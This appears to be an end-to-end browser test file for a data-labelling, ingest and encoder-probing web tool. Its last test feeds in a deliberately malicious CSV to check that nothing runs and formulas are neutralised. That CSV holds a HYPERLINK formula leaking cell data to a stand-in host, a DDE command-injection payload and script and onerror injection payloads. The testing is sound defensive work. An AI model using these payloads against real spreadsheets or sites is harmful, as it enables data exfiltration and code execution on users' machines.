// The steps before fine-tuning, in real Chromium: label a table by keyboard (kept across a
// reload, exported for `savant clean`, continued from a partly labelled file, ordered by a
// model's uncertainty); turn a picked folder of documents into the data table (the bytes
// `savant ingest` writes, a 1 GB file counted and not read); and compare two encoders on the
// user's texts (the numbers `savant probe` gives).
//
//   node --test tests/e2e/prepare.test.mjs      (after www/build.sh; tests/run does both)
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { cpSync, mkdirSync, readFileSync, truncateSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { DRUGS, MODELS, REPO, SAVANT, TINY, TINY_FILES, download, expectError, noError, openPage, pageUrl, shot, start, stop, storedByThePage } from "./harness.mjs";
import { readdirSync } from "node:fs";
import { DIST } from "./serve.mjs";

const OUT = join(REPO, "target/e2e/prepare");

before(() => start(OUT));
after(stop);

// 40 real drug reviews with distinct texts and no label (columns id, text); the first one gets an
// e-mail address, which the annotator must show redacted. Written by Python's csv module.
const MAKE_REVIEWS = `
import csv, sys
rows, seen = [], set()
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    for r in csv.DictReader(f):
        t = " ".join(r["text"].split())
        if 40 < len(t) < 400 and t not in seen:
            seen.add(t)
            rows.append((r["id"], t))
        if len(rows) == 40:
            break
rows[0] = (rows[0][0], rows[0][1] + " Write to me at jane.doe@example.org")
with open(sys.argv[2], "w", newline="", encoding="utf-8") as f:
    w = csv.writer(f)
    w.writerow(["id", "text"])
    w.writerows(rows)
`;

const marks = (page) => page.evaluate(() => window.savantPage.annotator.work?.marks ?? null);
const labelsOf = (ms) => ms.map((m) => m?.label ?? null);

function counts(labels) {
  const out = {};
  for (const l of labels) if (l != null) out[l] = (out[l] ?? 0) + 1;
  return out;
}

// A page with the review table (an address in its first row) loaded, its text column picked.
async function withReviews(name) {
  const dir = join(OUT, name);
  mkdirSync(dir, { recursive: true });
  const reviews = join(dir, "reviews.csv");
  execFileSync("python3", ["-c", MAKE_REVIEWS, DRUGS, reviews]);
  const { context, page, logs } = await openPage();
  await page.setInputFiles("#data-file", reviews);
  await page.waitForSelector("#preview table");
  await page.selectOption("#text-col", "text");
  return { dir, context, page, logs };
}

test("annotate: 20 rows by keyboard, a reload, export, savant clean counts the same; continue from the export", async () => {
  const { dir, context, page, logs } = await withReviews("annotate");

  // A label set of one is refused, with the reason.
  await page.fill("#ann-labels", "positive");
  await page.click("#ann-start-btn");
  await expectError(page, /only one label \('positive'\)/);

  await page.fill("#ann-labels", "positive, negative, mixed");
  await page.fill("#ann-by", "tester");
  await page.click("#ann-start-btn");
  await page.waitForSelector("#ann-box:not([hidden])");
  await noError(page, logs);
  assert.equal(await page.locator("#ann-text mark").first().textContent(), "[EMAIL]", "the address is shown redacted");
  assert.doesNotMatch(await page.locator("#ann-text").textContent(), /jane\.doe/);

  // Rows 1–12 by number keys; S skips row 13, U undoes the skip, U undoes row 12, 3 relabels it.
  await page.locator("#ann-card").focus();
  const first = ["1", "2", "3", "1", "2", "1", "3", "3", "2", "1", "2", "2"];
  for (const k of first) await page.keyboard.press(k);
  for (const k of ["s", "u", "u", "3"]) await page.keyboard.press(k);
  const names = ["positive", "negative", "mixed"];
  const want = [...first.slice(0, 11), "3"].map((k) => names[Number(k) - 1]);
  const before = await marks(page);
  assert.deepEqual(labelsOf(before), [...want, ...Array(28).fill(null)]);
  assert.ok(before.slice(0, 12).every((m) => m.by === "tester" && !Number.isNaN(Date.parse(m.at))), JSON.stringify(before[0]));
  assert.equal(await page.locator("#ann-card").getAttribute("data-row"), "12");
  await shot(page, join(dir, "labelling.png"));

  // A reload: the work is still there (IndexedDB), at the same row.
  await page.reload();
  await page.waitForFunction(() => window.savantPage?.annotator?.work != null, null, { timeout: 60_000 });
  await page.waitForFunction(() => document.getElementById("status").textContent.length > 0);
  assert.deepEqual(await marks(page), before);
  assert.match(await page.locator("#ann-progress").textContent(), /^12 \/ 40 labelled/);
  await page.locator("#ann-card").focus();
  await page.keyboard.press("ArrowRight");
  assert.equal(await page.locator("#ann-card").getAttribute("data-row"), "13");
  await page.keyboard.press("ArrowLeft");
  assert.equal(await page.locator("#ann-card").getAttribute("data-row"), "12");
  const more = ["1", "1", "2", "3", "2", "1", "3", "2"];
  for (const k of more) await page.keyboard.press(k);
  want.push(...more.map((k) => names[Number(k) - 1]));
  assert.match(await page.locator("#ann-progress").textContent(), /^20 \/ 40 labelled/);
  const labelled = await marks(page);
  assert.deepEqual(labelsOf(labelled), [...want, ...Array(20).fill(null)]);

  // The export: the file's columns, the label, who and when; savant clean reads it with the same counts.
  const exported = join(dir, "reviews.labelled.csv");
  const bytes = await download(page, page.locator("#ann-export-csv"), exported);
  const text = bytes.toString("utf8");
  assert.ok(text.startsWith("id,text,label,labelled_by,labelled_at\n"), text.slice(0, 200));
  assert.match(text, /\[EMAIL\]/);
  assert.doesNotMatch(text, /jane\.doe/);
  const report = join(dir, "clean_report.json");
  execFileSync(SAVANT, ["clean", exported, "--text", "text", "--label", "label", "-o", join(dir, "cleaned.csv"), "--report", report]);
  const r = JSON.parse(readFileSync(report, "utf8"));
  assert.equal(r.rows_in, 20);
  assert.equal(r.rows_out, 20, JSON.stringify(r.dropped));
  assert.deepEqual(r.label_counts, counts(want));

  // Every row, to continue elsewhere; cleared here, then loaded back as a partly labelled file.
  const all = join(dir, "reviews.annotations.csv");
  await download(page, page.locator("#ann-export-all"), all);
  await page.click("#ann-clear-btn");
  await page.waitForSelector("#ann-box", { state: "hidden" });
  await page.setInputFiles("#data-file", all);
  await page.waitForSelector("#preview table");
  await page.selectOption("#text-col", "text");
  await page.fill("#ann-labels", "");
  await page.click("#ann-start-btn");
  await page.waitForFunction(() => window.savantPage.annotator.work?.table.source === "reviews.annotations.csv");
  await noError(page, logs);
  assert.deepEqual(await marks(page), labelled, "the labels, who and when, read back");
  assert.match(await page.locator("#ann-progress").textContent(), /^20 \/ 40 labelled/);
  assert.ok((await download(page, page.locator("#ann-export-csv"), join(dir, "again.csv"))).equals(bytes), "the same export");

  // Least sure first: a model embeds the rows, a head fitted on the 20 labels orders the other 20.
  await page.setInputFiles("#model-files", TINY_FILES.map((f) => join(TINY, f)));
  await page.waitForFunction(() => window.savantPage.state.model != null);
  await page.selectOption("#ann-order", "uncertain");
  await page.waitForFunction(() => /ordered by the model's uncertainty/.test(document.getElementById("ann-score-status").textContent), null, {
    timeout: 120_000,
  });
  await noError(page, logs);
  const work = await page.evaluate(() => {
    const w = window.savantPage.annotator.work;
    return { order: w.order, hints: w.hints, mode: w.mode };
  });
  assert.equal(work.mode, "uncertain");
  assert.deepEqual([...work.order].sort((a, b) => a - b), Array.from({ length: 20 }, (_, i) => i + 20), "the unlabelled rows");
  const entropies = work.order.map((r) => work.hints[r].entropy);
  assert.ok(entropies.every((e, i) => i === 0 || e <= entropies[i - 1]), `most uncertain first: ${entropies}`);
  assert.ok(entropies[0] > 0 && entropies[0] <= Math.log(3) + 1e-9, `${entropies[0]}`);
  assert.match(await page.locator("#ann-where").textContent(), /the model's guess: (positive|negative|mixed)/);
  await page.locator("#ann-card").focus();
  await page.keyboard.press("2");
  assert.equal((await marks(page))[work.order[0]].label, "negative", "the key labels the most uncertain row");
  await context.close();
});

test("annotate label sets: number keys toggle labels into a row's set, Enter confirms; savant clean --label-sep counts the export", async () => {
  const { dir, context, page, logs } = await withReviews("annotate-sets");
  await page.fill("#label-sep", "|");
  await page.fill("#ann-labels", "positive, negative, mixed");
  await page.click("#ann-start-btn");
  await page.waitForSelector("#ann-box:not([hidden])");
  await noError(page, logs);
  await page.locator("#ann-card").focus();
  // Row 1: positive and mixed; row 2: negative; row 3: all three, then mixed out again.
  for (const k of ["1", "3", "Enter", "2", "Enter", "1", "2", "3", "3", "Enter"]) await page.keyboard.press(k);
  assert.deepEqual(labelsOf(await marks(page)).slice(0, 4), ["positive|mixed", "negative", "positive|negative", null]);
  const exported = join(dir, "sets.csv");
  const text = (await download(page, page.locator("#ann-export-csv"), exported)).toString("utf8");
  assert.match(text, /,positive\|mixed,/);
  const report = join(dir, "clean_report.json");
  execFileSync(SAVANT, ["clean", exported, "--text", "text", "--label", "label", "--label-sep", "|", "-o", join(dir, "cleaned.csv"), "--report", report]);
  const r = JSON.parse(readFileSync(report, "utf8"));
  assert.deepEqual(r.label_sets.labels, { mixed: 1, negative: 2, positive: 2 });
  assert.deepEqual(r.label_sets.labels_per_row, { 1: 1, 2: 2 });
  await context.close();
});

test("a picked folder of documents becomes the data: savant ingest's bytes, a 1 GB file counted and not read", async () => {
  const docs = join(OUT, "docs");
  cpSync(join(REPO, "tests/fixtures/ingest"), docs, { recursive: true });
  mkdirSync(join(docs, "big"));
  const huge = join(docs, "big/huge.txt");
  writeFileSync(huge, "x");
  truncateSync(huge, 1 << 30); // sparse: 1 GiB claimed, nothing on disk
  const cli = join(OUT, "ingest-cli.jsonl");
  const cliReport = join(OUT, "ingest-cli-report.json");
  execFileSync(SAVANT, ["ingest", docs, "-o", cli, "--report", cliReport]);
  const { context, page, logs } = await openPage();
  await page.setInputFiles("#doc-folder", docs);
  await page.waitForFunction(() => window.savantPage.state.ingest != null && window.savantPage.state.file != null, null, { timeout: 60_000 });
  await noError(page, logs);
  const got = await page.evaluate(() => ({
    bytes: Array.from(new Uint8Array(window.savantPage.state.file.bytes)),
    name: window.savantPage.state.file.name,
    report: window.savantPage.state.ingest,
  }));
  assert.equal(got.name, "docs.jsonl");
  assert.ok(Buffer.from(got.bytes).equals(readFileSync(cli)), "the page's rows differ from savant ingest's");
  const want = JSON.parse(readFileSync(cliReport, "utf8"));
  for (const k of ["rows_in", "rows_out", "dropped", "modified", "label_counts"]) assert.deepEqual(got.report[k], want[k], k);
  assert.equal(got.report.dropped.too_large, 1);
  assert.ok(got.report.warnings.some((w) => JSON.stringify(w).includes("big/huge.txt: 1073741824 bytes")), JSON.stringify(got.report.warnings));
  assert.equal(await page.locator("#text-col").inputValue(), "text");
  assert.equal(await page.locator("#label-col").inputValue(), "label");
  await shot(page, join(OUT, "ingest.png"));
  await context.close();
});

test("choose an encoder: the vocabulary that covers the domain ranks first, with savant probe's numbers", async () => {
  const dir = join(OUT, "probe");
  // Two candidates that differ only in their vocabularies (as the CLI test builds them).
  cpSync(join(MODELS, "tiny-base"), join(dir, "general"), { recursive: true });
  cpSync(join(MODELS, "tiny-base"), join(dir, "cardio"), { recursive: true });
  const tokenizerPath = join(dir, "cardio/tokenizer.json");
  const tokenizer = JSON.parse(readFileSync(tokenizerPath, "utf8"));
  const vocab = tokenizer.model.vocab;
  for (const [old, word] of [
    ["bank", "cardiomyopathy"],
    ["loan", "tachycardia"],
    ["card", "arrhythmia"],
    ["credit", "angina"],
    ["debit", "stent"],
    ["charge", "echocardiogram"],
  ]) {
    vocab[word] = vocab[old];
    delete vocab[old];
  }
  writeFileSync(tokenizerPath, JSON.stringify(tokenizer));
  const pairs = [
    ["tachycardia", "rhythm"],
    ["arrhythmia", "rhythm"],
    ["angina", "rhythm"],
    ["cardiomyopathy", "structure"],
    ["stent", "structure"],
    ["echocardiogram", "structure"],
  ];
  let csv = "text,label\n";
  for (let i = 0; i < 60; i++) csv += `the patient had ${pairs[i % 6][0]} after the dose,${pairs[i % 6][1]}\n`;
  writeFileSync(join(dir, "labelled.csv"), csv);
  execFileSync(SAVANT, ["probe", "--models", "general", "cardio", "--data", "labelled.csv", "--label", "label", "--device", "cpu", "-o", "cli.json"], {
    cwd: dir,
    stdio: ["ignore", "ignore", "pipe"],
  });
  const cli = JSON.parse(readFileSync(join(dir, "cli.json"), "utf8"));

  const { context, page, logs } = await openPage();
  await page.setInputFiles("#data-file", join(dir, "labelled.csv"));
  await page.waitForSelector("#preview table");
  await page.selectOption("#text-col", "text");
  await page.selectOption("#label-col", "label");
  // A folder that is not a model is refused by name, and the candidates so far are kept.
  mkdirSync(join(dir, "not-a-model"), { recursive: true });
  writeFileSync(join(dir, "not-a-model/notes.txt"), "hello");
  await page.setInputFiles("#probe-folder", join(dir, "general"));
  await page.waitForFunction(() => /general/.test(document.getElementById("probe-candidates").textContent));
  await page.setInputFiles("#probe-folder", join(dir, "not-a-model"));
  await expectError(page, /not-a-model is not a complete Hugging Face model folder: missing config\.json/);
  await page.setInputFiles("#probe-folder", join(dir, "cardio"));
  await page.waitForFunction(() => /cardio/.test(document.getElementById("probe-candidates").textContent));
  await page.click("#probe-btn");
  await page.waitForSelector("#probe-recommendation", { timeout: 300_000 });
  await noError(page, logs);
  const ranking = await page.evaluate(() => window.savantPage.state.probe);
  assert.equal(ranking.recommendation, "cardio", ranking.reason);
  assert.equal(cli.recommendation, "cardio");
  for (let i = 0; i < 2; i++) {
    const [p, c] = [ranking.ranking[i], cli.ranking[i]];
    assert.equal(p.model, c.model);
    assert.deepEqual(p.tokenizer_fit, c.tokenizer_fit, `${p.model}: the tokenizer fit differs from savant probe's`);
    assert.equal(p.linear_probe.test_rows, c.linear_probe.test_rows);
    assert.equal(p.linear_probe.train_rows, c.linear_probe.train_rows);
  }
  const f1 = (i) => ranking.ranking[i].linear_probe.macro_f1;
  assert.ok(f1(0) >= 0.9 && f1(1) <= 0.7, `probe macro-F1 cardio ${f1(0)} vs general ${f1(1)}`);
  assert.match(await page.locator("#probe-result").textContent(), /linear probe reaches macro-F1/);
  assert.equal(await page.locator("#probe-result script").count(), 0);
  await shot(page, join(dir, "probe.png"));
  await context.close();
});

// Cells starting with = + - @ (or a tab) in a CSV written by Python's csv module: what a
// spreadsheet would run. Checked on the page's downloads.
const FORMULA_CELLS = `
import csv, sys
bad = [c for row in csv.reader(open(sys.argv[1], newline="", encoding="utf-8")) for c in row if c[:1] in ("=", "+", "-", "@", "\t")]
print(len(bad))
`;

test("a malicious CSV runs no script, reaches no server, and leaves no formula in the downloads", async () => {
  const dir = join(OUT, "malicious");
  mkdirSync(dir, { recursive: true });
  const evil = join(dir, "evil.csv");
  const rows = [
    ["=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click me\")", "billing"],
    ["<script>window.__pwned = 'script'</script> my card was charged twice", "fraud"],
    ["<img src=x onerror=\"window.__pwned = 'img'\"> a late fee again", "billing"],
    ["+cmd|' /C calc'!A0 refund please", "other"],
    ["@SUM(1+1) is what I was billed", "billing"],
    ["-2+3 dollars were taken from my account", "fraud"],
    ["\t=1+2 a tab before the formula", "other"],
    ["an ordinary question about my statement", "other"],
  ];
  const quote = (c) => `"${c.replaceAll('"', '""')}"`;
  writeFileSync(evil, "text,label\n" + rows.map((r) => r.map(quote).join(",")).join("\n") + "\n");
  const { context, page, requests, logs } = await openPage();
  await page.setInputFiles("#data-file", evil);
  await page.waitForSelector("#preview table");
  await page.selectOption("#text-col", "text");
  await page.selectOption("#label-col", "label");
  await page.selectOption("#dedup", "none");
  await page.uncheck("#redact");
  await page.click("#clean-btn");
  await page.waitForSelector("#clean-report table");
  await noError(page, logs);
  const cleaned = join(dir, "cleaned.csv");
  await download(page, page.locator("#clean-download"), cleaned);

  // Label every row (into a new column) and export: the texts are shown, never run.
  await page.fill("#ann-labels", "billing, fraud, other");
  await page.fill("#ann-label-col", "reviewed");
  await page.click("#ann-start-btn");
  await page.waitForSelector("#ann-box:not([hidden])");
  await page.locator("#ann-card").focus();
  for (let i = 0; i < rows.length; i++) {
    assert.match(await page.locator("#ann-text").textContent(), /\S/);
    await page.keyboard.press(String(1 + (i % 3)));
  }
  const exported = join(dir, "evil.labelled.csv");
  await download(page, page.locator("#ann-export-csv"), exported);
  await noError(page, logs);
  await page.waitForTimeout(500); // an onerror handler would have run by now
  assert.equal(await page.evaluate(() => window.__pwned ?? null), null, "markup in the data ran");
  assert.equal(await page.locator("#ann-card img, #preview img, #ann-card script, #preview script").count(), 0);

  // The downloads: every formula cell written as text; savant clean --spreadsheet-safe agrees.
  for (const f of [cleaned, exported]) {
    assert.equal(execFileSync("python3", ["-c", FORMULA_CELLS, f], { encoding: "utf8" }).trim(), "0", `${f} keeps a formula`);
  }
  assert.match(readFileSync(cleaned, "utf8"), /"'=HYPERLINK\(""http:\/\/evil\.example/);
  const cli = join(dir, "cli.csv");
  execFileSync(SAVANT, ["clean", evil, "--text", "text", "--label", "label", "--dedup", "none", "--spreadsheet-safe", "-o", cli, "--quiet"]);
  assert.ok(readFileSync(cleaned).equals(readFileSync(cli)), "the page's download differs from savant clean --spreadsheet-safe");

  // No request but same-origin GETs of the page's own files (the <img src=x> fetched nothing).
  const own = new Set(listFiles(DIST).map((f) => "/" + f));
  own.add("/");
  const outside = requests.filter((r) => {
    if (r.url.startsWith("blob:") || r.url.startsWith("data:")) return false;
    const u = new URL(r.url);
    return r.method !== "GET" || u.origin !== new URL(pageUrl()).origin || !own.has(u.pathname);
  });
  assert.deepEqual(outside, [], "requests other than same-origin GETs of the page's files");
  // Stored: the labelling work the user asked for, and nothing else.
  assert.deepEqual(await storedByThePage(page, context), {
    cookies: 0,
    local: 0,
    session: 0,
    caches: [],
    databases: ["savant-annotate"],
  });
  await context.close();
});

function listFiles(dir) {
  const out = [];
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    if (e.isDirectory()) out.push(...listFiles(join(dir, e.name)).map((f) => `${e.name}/${f}`));
    else out.push(e.name);
  }
  return out;
}
